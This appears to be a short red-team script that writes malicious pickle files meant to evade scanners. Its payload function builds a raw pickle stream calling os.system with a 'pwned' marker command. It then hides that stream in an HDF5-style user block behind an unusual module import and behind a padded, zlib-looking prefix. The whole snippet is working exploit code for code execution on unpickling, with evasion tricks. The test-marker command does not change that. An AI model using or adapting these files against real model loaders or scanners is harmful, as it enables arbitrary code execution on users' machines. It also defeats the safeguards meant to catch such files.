def payload(name):
    return b"cos\nsystem\n(S'touch /tmp/rt16/pwned_%s'\ntR." % name.encode()
# one stream: first import is a real but non-identifier module name (importable in CPython)
h5 = bytearray(open("/tmp/rt15/fn_h5_userblock.pkl","rb").read())
p = b"c_sysconfigdata__linux_x86_64-linux-gnu\nbuild_time_vars\n0" + payload("h5_hyphen")
h5[:512] = p + b"\0"*(512-len(p)); open("fn_h5_hyphen.pkl","wb").write(h5)
# zlib-looking
p = payload("zlib_g2") + b"cx-\ny\n."
open("fn_zlib_g2.pkl","wb").write(b"(\x91X\xff\xff\x00\x00" + b"A"*65535 + p)
